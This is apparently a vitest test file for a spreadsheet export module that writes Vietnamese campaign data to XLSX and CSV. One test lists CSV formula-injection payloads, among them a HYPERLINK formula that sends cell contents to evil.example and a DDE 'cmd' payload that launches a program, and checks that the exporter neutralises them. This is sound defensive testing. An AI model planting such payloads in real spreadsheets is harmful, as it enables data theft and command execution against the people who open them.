import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { exportFileName, writeSheet, type SheetColumn } from "./spreadsheet";

interface Row {
  code: string;
  title: string;
  fee: number;
}

const COLUMNS: SheetColumn<Row>[] = [
  { header: "Mã bài", value: (r) => r.code },
  { header: "Tên chiến dịch", value: (r) => r.title },
  { header: "Phí (VND)", value: (r) => r.fee },
];
const ROWS: Row[] = [
  { code: "VX26-TVC-0001", title: 'Tết sum vầy, "Đoàn viên"', fee: 3_000_000 },
  { code: "VX26-OOH-0002", title: "Quảng cáo ngoài trời; dòng 2\nxuống dòng", fee: 2_500_000 },
];

describe("writeSheet", () => {
  it("writes an XLSX that reads back with its Vietnamese text and numbers", async () => {
    const file = await writeSheet("xlsx", "Bài dự thi", COLUMNS, ROWS);
    expect(file.subarray(0, 2).toString("latin1")).toBe("PK");
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.name).toBe("Bài dự thi");
    expect(sheet.getRow(1).values).toEqual([undefined, "Mã bài", "Tên chiến dịch", "Phí (VND)"]);
    expect(sheet.getRow(2).getCell(2).value).toBe('Tết sum vầy, "Đoàn viên"');
    expect(sheet.getRow(3).getCell(3).value).toBe(2_500_000);
    expect(sheet.rowCount).toBe(3);
  });

  it("writes a CSV with a UTF-8 BOM and quoted fields", async () => {
    const file = await writeSheet("csv", "x", COLUMNS, ROWS);
    expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = file.subarray(3).toString("utf8");
    const lines = text.split(/\r?\n/);
    expect(lines[0]).toBe('"Mã bài","Tên chiến dịch","Phí (VND)"');
    expect(lines[1]).toBe('"VX26-TVC-0001","Tết sum vầy, ""Đoàn viên""","3000000"');
    expect(text).toContain('"Quảng cáo ngoài trời; dòng 2\nxuống dòng"');
  });

  it("keeps text that would run as a formula as text in a CSV, and as it is in an XLSX", async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
      "+SUM(1,2)",
      "-1+cmd|' /C calc'!A0",
      "@SUM(A1)",
      "\t=1",
    ];
    const rows = hostile.map((title) => ({ code: "+84987654321", title, fee: -5 }));
    const csv = (await writeSheet("csv", "x", COLUMNS, rows)).subarray(3).toString("utf8");
    const lines = csv.split(/\r?\n/).slice(1, 1 + hostile.length);
    expect(lines.map((line) => line.split('","')[1]!.replaceAll('""', '"'))).toEqual(
      hostile.map((title) => `'${title}`),
    );
    // A phone number and a negative number are data, not formulas: untouched.
    expect(lines[0]!.startsWith('"+84987654321",')).toBe(true);
    expect(lines[0]!.endsWith(',"-5"')).toBe(true);

    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await writeSheet("xlsx", "x", COLUMNS, rows)) as unknown as ArrayBuffer);
    expect(book.worksheets[0]!.getRow(2).getCell(2).value).toBe(hostile[0]);
  });

  it("names the file in ASCII with the day", () => {
    expect(exportFileName("bai-du-thi", "csv", new Date("2026-11-23T10:00:00Z"))).toBe(
      "bai-du-thi-2026-11-23.csv",
    );
  });
});
